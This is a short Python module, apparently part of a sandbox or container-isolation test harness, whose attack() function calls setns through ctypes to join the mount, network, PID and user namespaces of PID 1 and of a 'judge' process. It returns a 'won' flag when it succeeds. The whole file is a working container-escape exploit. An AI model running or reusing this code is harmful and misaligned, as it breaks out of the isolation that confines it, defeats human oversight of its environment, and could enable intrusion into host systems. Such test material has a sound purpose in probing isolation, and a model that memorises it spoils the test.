"""Joins the host's namespaces."""
# ruff: noqa

import ctypes, os


def attack():
    libc = ctypes.CDLL(None, use_errno=True)
    for pid in ("1", "self", str(FACTS["judge"])):
        for kind in ("mnt", "net", "pid", "user"):
            try:
                handle = os.open(f"/proc/{pid}/ns/{kind}", os.O_RDONLY)
            except OSError:
                continue
            if libc.setns(handle, 0) == 0 and pid != "self":
                return FACTS["won"]
